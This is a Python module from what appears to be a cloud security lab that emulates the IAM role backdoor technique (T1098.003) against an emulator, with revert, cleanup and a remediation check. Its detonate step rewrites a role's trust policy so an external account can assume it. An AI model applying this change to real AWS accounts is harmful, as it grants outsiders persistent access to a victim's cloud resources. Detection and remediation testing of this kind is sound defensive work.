"""iam-backdoor-role: let an external account assume an existing role (T1098.003)."""

from __future__ import annotations

import json
from pathlib import Path

from lab.attacks.base import Prerequisites, Technique
from lab.attacks.iam_role import EXTERNAL_PRINCIPAL, delete_role, external_principals, trust_policy
from lab.attacks.resources import account_id, boundary, lab_tags, missing_ok
from lab.emulator.endpoints import Endpoints

ROLE = "lab-target-app-role"
ORIGINAL_TRUST = trust_policy({"Service": "ec2.amazonaws.com"})


class IamBackdoorRole(Technique):
    folder = Path(__file__).parent

    def warm_up(self, endpoints: Endpoints) -> Prerequisites:
        with missing_ok("EntityAlreadyExists"):
            endpoints.client("iam", "harness").create_role(
                RoleName=ROLE,
                AssumeRolePolicyDocument=json.dumps(ORIGINAL_TRUST),
                Tags=lab_tags(self.id),
                **boundary(),
            )
        prerequisites = {"role": ROLE}
        self.revert(endpoints, prerequisites)
        return prerequisites

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        backdoored = trust_policy({"Service": "ec2.amazonaws.com"}, {"AWS": EXTERNAL_PRINCIPAL})
        endpoints.client("iam", "attacker").update_assume_role_policy(
            RoleName=prerequisites["role"], PolicyDocument=json.dumps(backdoored)
        )

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """No principal outside the account may assume the role (or the role is gone)."""
        with missing_ok("NoSuchEntity"):
            role = endpoints.client("iam", "observer").get_role(RoleName=prerequisites["role"])[
                "Role"
            ]
            return not external_principals(role["AssumeRolePolicyDocument"], account_id(endpoints))
        return True

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        with missing_ok("NoSuchEntity"):
            endpoints.client("iam", "harness").update_assume_role_policy(
                RoleName=prerequisites["role"], PolicyDocument=json.dumps(ORIGINAL_TRUST)
            )

    def cleanup(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        delete_role(endpoints.client("iam", "harness"), prerequisites["role"])


TECHNIQUE = IamBackdoorRole
